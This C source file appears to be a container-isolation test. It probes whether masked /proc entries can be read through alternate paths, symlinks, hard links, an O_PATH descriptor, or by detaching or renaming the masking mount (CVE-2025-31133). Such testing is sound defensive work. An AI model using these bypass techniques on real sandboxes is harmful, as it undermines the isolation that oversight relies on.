/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Goes around the masks of /proc: by other names of the same directory, by links, by renaming and
 * unmounting what covers them (CVE-2025-31133).
 */
#include "attack/attack.h"

#include <limits.h>
#include <sys/mount.h>

static void try_read(const char *path)
{
	char buf[64];
	if (read_some(path, buf, sizeof(buf)) > 0)
		broken("%s can be read", path);
}

ATTACK(masked_paths)
{
	static const char *const masked[] = { "keys", "cmdline", "interrupts", "partitions" };
	static const char *const ways[] = { "/proc",
					    "/proc/self/root/proc",
					    "/proc/1/root/proc",
					    "/proc/self/cwd/../../../../proc",
					    "/proc/thread-self/root/proc",
					    "/proc/self/task/../.." };
	char path[PATH_MAX], link_path[] = "/tmp/.attack-mask";
	for (size_t i = 0; i < N(masked); i++) {
		for (size_t w = 0; w < N(ways); w++) {
			snprintf(path, sizeof(path), "%s/%s", ways[w], masked[i]);
			try_read(path);
		}
		snprintf(path, sizeof(path), "/proc/%s", masked[i]);
		unlink(link_path);
		if (symlink(path, link_path) == 0)
			try_read(link_path);
		unlink(link_path);
		if (link(path, link_path) == 0) {
			try_read(link_path);
			unlink(link_path);
		}
		/* An O_PATH descriptor of the directory, then the name from there. */
		int dir = open("/proc", O_PATH | O_DIRECTORY | O_CLOEXEC);
		int fd = dir >= 0 ? openat(dir, masked[i], O_RDONLY | O_CLOEXEC) : -1;
		if (fd >= 0 && read(fd, path, 1) > 0)
			broken("/proc/%s can be read through a descriptor", masked[i]);
		snprintf(path, sizeof(path), "/proc/%s", masked[i]);
		if (umount2(path, MNT_DETACH) == 0 || rename(path, "/proc/attack") == 0)
			broken("the cover of %s came off", path);
	}
	held("%zu masks, each tried %zu ways", N(masked), N(ways) + 4);
}
